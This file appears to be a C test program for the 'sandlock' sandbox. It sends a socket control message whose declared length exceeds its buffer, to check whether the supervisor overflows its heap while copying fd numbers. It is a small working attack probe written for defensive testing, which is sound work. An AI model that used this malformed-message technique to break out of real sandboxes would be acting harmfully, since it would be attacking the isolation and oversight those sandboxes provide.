// An attack on the supervisor itself: sendmsg with a control message whose header claims more
// bytes than msg_controllen holds. A supervisor that trusts cmsg_len reads fd numbers past its
// copy and writes its own numbers there (a heap overflow in sandlock). Many fd numbers are made
// valid first, so heap words read as fd numbers get copied. The kernel's answer is EINVAL.
//   cmsg_overflow CLAIMED_LENGTH       prints "sendmsg ERRNO_NAME" (or "sendmsg ok")
#include <errno.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/resource.h>
#include <sys/socket.h>
#include <unistd.h>

int main(int argc, char** argv) {
    if (argc != 2) return 2;
    const size_t claimed = strtoul(argv[1], NULL, 0);
    struct rlimit limit;
    getrlimit(RLIMIT_NOFILE, &limit);
    const int last = limit.rlim_cur > 1024 ? 1024 : (int)limit.rlim_cur;
    for (int fd = 3; fd < last - 8; ++fd) dup2(0, fd);
    int pair[2];
    if (socketpair(AF_UNIX, SOCK_DGRAM, 0, pair) != 0) return 2;

    unsigned char control[24] = {0};
    struct cmsghdr* header = (struct cmsghdr*)control;
    header->cmsg_len = claimed;
    header->cmsg_level = SOL_SOCKET;
    header->cmsg_type = SCM_RIGHTS;
    struct iovec iov = {"x", 1};
    struct msghdr message = {.msg_iov = &iov, .msg_iovlen = 1, .msg_control = control, .msg_controllen = 20};
    const ssize_t n = sendmsg(pair[0], &message, 0);
    printf("sendmsg %s\n", n >= 0 ? "ok" : errno == EINVAL ? "EINVAL" : strerror(errno));
    return 0;
}
